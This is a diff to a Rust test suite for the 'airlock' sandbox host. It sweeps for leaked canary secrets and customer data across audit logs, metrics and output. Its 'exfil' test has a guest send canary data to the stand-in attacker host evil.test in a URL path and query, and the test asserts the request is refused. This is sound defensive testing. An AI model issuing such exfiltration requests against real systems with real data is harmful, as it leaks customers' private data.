@@ -1,16 +1,18 @@
 //! The system-wide canary sweep (security catalogue AL-01): every example and hostile guest in
 //! `guest-examples/` runs through the real `airlock` binary with canary secrets in every
-//! credential it declares, canary customer data in its inputs, config, query strings and
-//! request headers, loopback upstreams whose bodies and headers carry an upstream canary, and
-//! canaries (name and value) in the host process's own environment. Afterwards no canary is in
-//! the audit trail, `audit list`, the metrics or any file of the data and audit dirs; no secret
-//! and no environment canary is in any run's stdout or stderr; and stderr holds no customer
-//! data but what a guest logs on purpose.
+//! credential it declares, canary customer data in its inputs, config, query strings (names
+//! and values), request headers, the path segments of the URLs guests build, and the keys of
+//! input and output objects that break their schemas, loopback upstreams whose bodies and
+//! headers carry an upstream canary, and canaries (name and value) in the host process's own
+//! environment. Afterwards no canary is in the audit trail, `audit list`, the metrics or any file
+//! of the data and audit dirs; no secret and no environment canary is in any run's stdout or
+//! stderr; and stderr holds no customer data but what a guest logs on purpose and what the
+//! caller's own summary and errors show it (its request targets, the instance pointer of a
+//! schema violation).
 //!
-//! No canary goes where the host keeps data by design: a request's path without the query
-//! (audit records name it, catalogue AL-02; so owner and repo of github-issues are plain names)
-//! and kv keys (stored as they are, for listing; values are sealed). A method is kept only when
-//! a rule could allow it; any other is recorded as `OTHER`, so a canary method is swept too.
+//! No canary goes where the host keeps data by design: kv keys (stored as they are, for
+//! listing; values are sealed). A method is kept only when a rule could allow it; any other is
+//! recorded as `OTHER`, so a canary method is swept too.
 
 use std::path::Path;
 use std::process::Output;
@@ -53,8 +55,14 @@ pub(crate) struct Canaries {
     /// A variable of the `airlock` process's own environment: its name and its value.
     pub(crate) env_name: String,
     pub(crate) env_value: String,
-    /// In the query strings of guest requests.
+    /// In the query strings of guest requests: a value…
     pub(crate) query: String,
+    /// …and a parameter's name.
+    pub(crate) param: String,
+    /// A path segment of the URLs guests build (a contact's id, a repository owner).
+    pub(crate) segment: String,
+    /// A key of input and output objects, where the schema refuses it.
+    pub(crate) key: String,
     /// In the request headers a guest sets (value, and a header's name).
     pub(crate) header: String,
     /// As the method of a guest request (a token no rule can allow, kept as `OTHER`).
@@ -86,6 +94,9 @@ impl Canaries {
             env_name: make("envname"),
             env_value: make("envvalue"),
             query: make("query"),
+            param: make("param"),
+            segment: make("segment"),
+            key: make("key"),
             header: make("header"),
             method: make("method"),
             upstream: make("upstream"),
@@ -126,10 +137,17 @@ impl Canaries {
         all
     }
 
-    /// Every canary, named by the place it travels.
+    /// Every canary, named by the place it travels: also the input guests log on purpose, and
+    /// what the caller's own summary and errors show it (request targets, schema pointers).
     pub(crate) fn all(&self) -> Vec<(&'static str, &str)> {
         let mut all = self.unlogged();
-        all.extend([("logged", self.logged.as_str()), ("channel", &self.channel)]);
+        all.extend([
+            ("logged", self.logged.as_str()),
+            ("channel", &self.channel),
+            ("param", &self.param),
+            ("segment", &self.segment),
+            ("key", &self.key),
+        ]);
         all
     }
 
@@ -503,6 +521,9 @@ fn contact_mapper(s: &mut Sweep, c: &Canaries) {
     );
     let rejected = json!({"Id": c.input, "Email": 42, "Company": c.input});
     s.local("contact-mapper", "map-contact", rejected, &config, 3);
+    // A key the schema does not allow.
+    let keyed = json!({"Id": c.logged, "Email": "ada@example.com", c.key.as_str(): c.input});
+    s.local("contact-mapper", "map-contact", keyed, &config, 3);
     let unmappable = json!({"Id": c.logged, "FirstName": c.input, "Company": c.input});
     s.local("contact-mapper", "map-contact", unmappable, &config, 4);
 }
@@ -620,11 +641,25 @@ fn exfil(s: &mut Sweep, c: &Canaries) {
         "{:?}",
         run.seen
     );
+    // Paths built from customer data, with a parameter named by it, to hosts with and without
+    // a credential; the upstream sees them, the trail keeps only the rule and a keyed hash.
+    let (segment, param) = (&c.segment, &c.param);
+    for host in ["api", "vault"] {
+        let path = format!("/contacts/{segment}/notes/{segment}");
+        let url = format!("https://{host}.allowed.test{path}?{param}={q}");
+        let run = s.local("exfil", "fetch", fetch(&url, "GET"), &flags, 0);
+        assert_eq!(run.seen.len(), 1, "{}", run.what);
+        assert_eq!(run.seen[0].path_and_query, format!("{path}?{param}={q}"));
+        assert_eq!(outcomes(&run.output()), ["ok 200"], "{}", run.what);
+    }
     // Refused: a host no rule allows.
     let input = fetch(&format!("https://evil.test/items?q={q}"), "GET");
     let run = s.local("exfil", "fetch", input, &flags, 0);
     assert!(run.seen.is_empty());
     assert_eq!(outcomes(&run.output()), ["HttpRequestDenied"]);
+    let input = fetch(&format!("https://evil.test/{segment}?{param}=1"), "GET");
+    let run = s.local("exfil", "fetch", input, &flags, 0);
+    assert!(run.seen.is_empty());
     // Refused: a method of the guest's own making, to an allowed host.
     let input = fetch("https://api.allowed.test/items", &c.method);
     let run = s.local("exfil", "fetch", input, &flags, 0);
@@ -671,6 +706,15 @@ fn github_issues(s: &mut Sweep, c: &Canaries) {
     let missing = json!({"owner": "acme", "repo": "missing"});
     let run = s.local("github-issues", "list-open", missing, &secret, 4);
     assert_eq!(run.seen.len(), 1);
+    // An owner that is customer data goes into the path.
+    let theirs = json!({"owner": c.segment, "repo": "widgets"});
+    let run = s.local("github-issues", "list-open", theirs.clone(), &secret, 4);
+    assert_eq!(run.seen.len(), 1);
+    assert!(
+        run.seen[0]
+            .path_and_query
+            .starts_with(&format!("/repos/{}/widgets/issues?", c.segment))
+    );
 
     // Installed, with the token stored (sealed) for acme.
     let bundle = s.op.example("github-issues", "github_issues.wasm");
@@ -680,6 +724,8 @@ fn github_issues(s: &mut Sweep, c: &Canaries) {
     assert_eq!(set.status.code(), Some(0), "{}", stderr(&set));
     let run = s.installed("github-issues", "list-open", list, 0);
     listed(run, &c.stored);
+    let run = s.installed("github-issues", "list-open", theirs, 4);
+    assert_eq!(run.seen.len(), 1);
 }
 
 /// Asserts `run` refreshed with `refresh` (a form value) and posted with an issued token.
@@ -758,6 +804,19 @@ fn hostile(s: &mut Sweep, c: &Canaries) {
             .as_str()
             .is_some_and(|e| e.starts_with("quota-exceeded"))
     );
+    // Input and output objects keyed by the caller's data, which their schemas refuse at
+    // that key: the caller's error says where, the trail only which keyword of the schema.
+    let keyed = json!({"ok": "x", c.key.as_str(): c.input});
+    let wrong = json!({"ok": "x", c.key.as_str(): 1});
+    for (input, direction) in [(wrong, "input"), (keyed, "output")] {
+        let run = s.local("hostile", "bad-output", input, &[], 3);
+        let shown = stderr(&run.out);
+        assert!(
+            shown.contains(&format!("{direction} does not match")),
+            "{shown}"
+        );
+        assert!(shown.contains(&format!("/{}", c.key)), "{shown}");
+    }
     // Refused at load (it imports wasi:sockets): exit 2, before any input is read.
     let connect = json!({"address": c.input});
     let run = s.local("hostile-sockets", "connect", connect, &[], 2);
@@ -800,6 +859,47 @@ fn every_guest_leaves_no_canary_behind() {
             .iter()
             .any(|r| r["redactions"].as_u64() > Some(0)),
         "an echoed credential was scrubbed"
+    );
+    // Schema failures are located in the schema; requests by their rule and a keyed hash.
+    let failed: Vec<(&str, &str)> = invocations
+        .iter()
+        .filter_map(|r| {
+            let v = &r["validation"];
+            Some((v["direction"].as_str()?, v["location"].as_str()?))
+        })
+        .collect();
+    for expected in [
+        ("input", "/additionalProperties"),
+        ("input", "/additionalProperties/type"),
+        ("output", "/additionalProperties/type"),
+    ] {
+        assert!(failed.contains(&expected), "{expected:?} in {failed:?}");
+    }
+    let intents: Vec<&Value> = kept
+        .iter()
+        .filter(|r| r["type"] == "egress-intent")
+        .collect();
+    let egress = invocations
+        .iter()
+        .filter_map(|r| r["egress"].as_array())
+        .flatten();
+    let mut targets = 0;
+    for event in egress.chain(intents.iter().copied()) {
+        assert!(event.get("target").is_none(), "{event}");
+        if event.get("target_hash").is_some() {
+            assert!(
+                event["via"]
+                    .as_str()
+                    .is_some_and(|v| v.starts_with("https://"))
+            );
+            targets += 1;
+        }
+    }
+    // Each intent has its hash, and so does the attempt its invocation recorded.
+    assert!(
+        !intents.is_empty() && targets >= 2 * intents.len(),
+        "{targets} hashes, {} intents",
+        intents.len()
     );
     let metrics = stdout(&airlock(s.op.data(), &["metrics"]));
     let counted: u64 = metrics
